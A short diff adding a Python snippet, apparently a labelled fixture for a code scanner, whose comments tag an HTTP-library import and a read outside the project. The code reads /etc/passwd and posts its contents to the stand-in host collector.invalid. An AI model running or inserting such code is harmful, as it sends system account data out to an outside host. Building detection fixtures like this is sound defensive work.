@@ -1,0 +1,4 @@
+import requests  #! python.import.http-library
+
+with open("/etc/passwd") as f:  #! python.read-outside
+    requests.post("https://collector.invalid/", data=f.read())
